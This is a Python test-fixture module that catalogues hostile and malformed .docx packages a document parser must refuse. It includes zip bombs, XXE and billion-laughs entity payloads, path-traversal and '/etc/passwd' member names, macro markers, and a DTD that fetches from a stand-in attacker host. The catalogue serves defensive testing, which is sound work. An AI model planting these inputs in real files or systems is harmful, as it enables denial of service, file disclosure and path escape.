"""The catalogue of hostile and broken packages: (label, builder, the refusal code it must get,
the stage that refuses it -- ``load``: opening the package; ``main``: parsing the main part;
``read:NAME``: reading the part NAME).

``tests/test_package.py`` checks each case's code, ``tests/test_hostile.py`` runs the whole
catalogue through the command line (``testing.measure``) within a time and memory budget.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable

from testing import hostile_docs as h

MB = 1024 * 1024


def _xlsx() -> bytes:
    return h.docx(
        {
            "[Content_Types].xml": h.content_types({"/xl/workbook.xml": h.XLSX_MAIN_CT}),
            "_rels/.rels": h.rels(("rId1", h.REL_DOC, "xl/workbook.xml")),
            "word/document.xml": None,
            "xl/workbook.xml": h.DECL
            + b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
        }
    )


def _utf16_doctype() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
    return h.docx({"word/styles.xml": text.encode("utf-16")})


def _custom_xml_by_content_type() -> bytes:
    ct = h.content_types({"/word/extra.dat": "application/vnd.example.custom+xml"})
    return h.docx({"[Content_Types].xml": ct, "word/extra.dat": h.XXE})


def _ole(marker: str) -> bytes:
    return h.OLE_HEADER + marker.encode("utf-16-le") + b"\0" * 64


def _deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def _many_members(n: int) -> bytes:
    return h.plus_entries([h.Entry(f"customXml/i{i}.bin", b"", method=0) for i in range(n)])


def bomb_in_media() -> bytes:
    compressed = h.deflate_repeated(b"", b"\0" * MB, 400, b"")
    return h.plus_entries([h.Entry("word/media/image1.png", b"", compressed=compressed, usize=60_000, crc=0)])


DOC = h.document()

CATALOGUE: list[tuple[str, Callable[[], bytes], str, str]] = [
    ("empty file", lambda: b"", "empty_file", "load"),
    ("random bytes", lambda: random.Random(7).randbytes(8192), "not_a_zip", "load"),
    ("plain text renamed .docx", lambda: b"LEASE AGREEMENT\r\nThe Tenant...\r\n" * 40,
     "not_a_zip", "load"),
    ("a PDF renamed .docx", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n" * 10,
     "not_a_zip", "load"),
    ("OLE file (generic)", lambda: h.OLE_HEADER, "ole_file", "load"),
    ("OLE file: encrypted docx", lambda: _ole("EncryptionInfo"), "ole_file", "load"),
    ("OLE file: legacy .doc", lambda: _ole("WordDocument"), "ole_file", "load"),
    ("encrypted member flag", lambda: h.with_entry({"flags": 0x1}), "encrypted_member", "load"),
    ("AES-encrypted member (method 99)", lambda: h.with_entry({"method": 99}),
     "encrypted_member", "load"),
    ("bzip2 compression", lambda: h.with_entry({"method": 12, "compressed": b"BZh91AY&SY"}),
     "unsupported_compression", "load"),
    ("unknown compression method", lambda: h.with_entry({"method": 77}),
     "unsupported_compression", "load"),
    ("macro-enabled content type",
     lambda: h.docx({"[Content_Types].xml":
                     h.content_types({"/word/document.xml": h.MACRO_MAIN_CT})}),
     "macro_enabled", "load"),
    ("vbaProject.bin member", lambda: h.docx({"word/vbaProject.bin": b"\xcc" * 300}),
     "macro_enabled", "load"),
    ("vbaProject content type",
     lambda: h.docx({"[Content_Types].xml": h.content_types(
         {"/word/macros.bin": "application/vnd.ms-office.vbaProject"})}),
     "macro_enabled", "load"),
    ("no [Content_Types].xml", lambda: h.docx({"[Content_Types].xml": None}),
     "missing_content_types", "load"),
    ("no package relationships", lambda: h.docx({"_rels/.rels": None}),
     "no_main_document", "load"),
    ("no officeDocument relationship",
     lambda: h.docx({"_rels/.rels": h.rels(("rId1", h.REL_STYLES, "word/styles.xml"))}),
     "no_main_document", "load"),
    ("main document missing from the zip", lambda: h.docx({"word/document.xml": None}),
     "no_main_document", "load"),
    ("an .xlsx renamed .docx", _xlsx, "not_wordprocessing", "load"),
    ("main part with a generic content type",
     lambda: h.docx({"[Content_Types].xml": h.content_types({"/word/document.xml":
                                                              "application/xml"})}),
     "not_wordprocessing", "load"),
    ("Strict officeDocument relationship",
     lambda: h.docx({"_rels/.rels": h.rels(("rId1", h.REL_DOC_STRICT, "word/document.xml"))}),
     "strict_ooxml", "load"),
    ("Strict namespace in the main part", lambda: h.docx({"word/document.xml":
                                                          h.STRICT_DOCUMENT}),
     "strict_ooxml", "main"),
    ("duplicate part name", lambda: h.plus_entries([h.Entry("word/document.xml", DOC)]),
     "duplicate_part", "load"),
    ("case-duplicate part name", lambda: h.plus_entries([h.Entry("Word/Document.XML", DOC)]),
     "duplicate_part", "load"),
    ("percent-encoded duplicate", lambda: h.plus_entries([h.Entry("word/%64ocument.xml", DOC)]),
     "duplicate_part", "load"),
    ("'..' segment", lambda: h.plus_entries([h.Entry("../evil.xml", b"<a/>")]),
     "unsafe_part_name", "load"),
    ("'..' in the middle", lambda: h.plus_entries([h.Entry("word/../../evil.xml", b"<a/>")]),
     "unsafe_part_name", "load"),
    ("percent-encoded '..'", lambda: h.plus_entries([h.Entry("word/%2e%2e/x.xml", b"<a/>")]),
     "unsafe_part_name", "load"),
    ("absolute name", lambda: h.plus_entries([h.Entry("/etc/passwd", b"root")]),
     "unsafe_part_name", "load"),
    ("backslash name", lambda: h.plus_entries([h.Entry("word\\evil.xml", b"<a/>")]),
     "unsafe_part_name", "load"),
    ("drive letter", lambda: h.plus_entries([h.Entry("C:/evil.xml", b"<a/>")]),
     "unsafe_part_name", "load"),
    ("NUL in a name", lambda: h.plus_entries([h.Entry("word/a\x00.xml", b"<a/>")]),
     "unsafe_part_name", "load"),
    ("invalid UTF-8 name", lambda: h.plus_entries([h.Entry(b"word/\xff.xml", b"<a/>",
                                                           flags=0x800)]),
     "unsafe_part_name", "load"),
    ("declared size over the cap", lambda: h.with_entry({"usize": 300 * MB}),
     "too_large", "load"),
    ("high compression ratio",
     lambda: h.plus_entries([h.Entry("word/media/zeros.bin", b"\0" * 3 * MB)]),
     "compression_ratio", "load"),
    ("too many members", lambda: _many_members(10_001), "too_many_members", "load"),
    ("CRC mismatch", lambda: h.with_entry({"crc": 0x12345678}), "crc_mismatch", "load"),
    ("declared size smaller than the data", lambda: h.with_entry({"usize": len(DOC) - 10}),
     "crc_mismatch", "load"),
    ("declared size larger than the data", lambda: h.with_entry({"usize": len(DOC) + 10}),
     "crc_mismatch", "load"),
    ("local header disagrees with the directory",
     lambda: h.with_entry({"local_name": b"word/other.xml"}), "corrupt_zip", "load"),
    ("overlapping members", h.overlapping_members, "corrupt_zip", "load"),
    ("zip64 end record", h.zip64_marked, "unsupported_zip", "load"),
    ("broken deflate stream", lambda: h.with_entry({"compressed": b"\xff\xfe garbage"}),
     "corrupt_member", "load"),
    ("deflate stream cut short", lambda: h.with_entry({"compressed": _deflate(DOC)[:40]}),
     "corrupt_member", "load"),
    ("zip bomb in document.xml (sizes lie)", h.bomb, "inflate_budget", "load"),
    ("zip bomb in a media part, on read", bomb_in_media, "inflate_budget",
     "read:word/media/image1.png"),
    ("XXE in document.xml", lambda: h.docx({"word/document.xml": h.XXE}), "dtd_forbidden",
     "load"),
    ("DTD in styles.xml", lambda: h.docx({"word/styles.xml": h.XXE}), "dtd_forbidden", "load"),
    ("DTD in [Content_Types].xml",
     lambda: h.docx({"[Content_Types].xml": h.content_types().replace(
         b"?>\r\n", b'?>\r\n<!DOCTYPE Types [<!ENTITY x "y">]>', 1)}),
     "dtd_forbidden", "load"),
    ("DTD in _rels/.rels",
     lambda: h.docx({"_rels/.rels": h.rels(("rId1", h.REL_DOC, "word/document.xml")).replace(
         b"?>\r\n", b"?>\r\n<!DOCTYPE r SYSTEM 'http://attacker.example/x.dtd'>", 1)}),
     "dtd_forbidden", "load"),
    ("DTD after a prolog comment",
     lambda: h.docx({"word/styles.xml": b"<!-- hi --><?pi x?>\n" + h.XXE[h.XXE.index(b"<!D"):]}),
     "dtd_forbidden", "load"),
    ("DTD in a UTF-16 part", _utf16_doctype, "dtd_forbidden", "load"),
    ("DTD in a part XML only by content type", _custom_xml_by_content_type, "dtd_forbidden",
     "load"),
    ("billion laughs", lambda: h.docx({"word/document.xml": h.BILLION_LAUGHS}),
     "dtd_forbidden", "load"),
    ("nesting deeper than the parser allows", lambda: h.docx({"word/document.xml": h.deep()}),
     "too_deep", "main"),
    ("a 30 MB text node", h.huge_text_node, "xml_node_too_large", "main"),
    ("malformed document.xml",
     lambda: h.docx({"word/document.xml": h.DECL + b"<w:document><w:body></w:document>"}),
     "malformed_xml", "main"),
    ("binary bytes as document.xml",
     lambda: h.docx({"word/document.xml": bytes(range(256)) * 4}), "malformed_xml", "main"),
    ("malformed [Content_Types].xml", lambda: h.docx({"[Content_Types].xml": b"<Types><"}),
     "malformed_xml", "load"),
    ("malformed _rels/.rels", lambda: h.docx({"_rels/.rels": b"<Relationships"}),
     "malformed_xml", "load"),
]  # fmt: skip
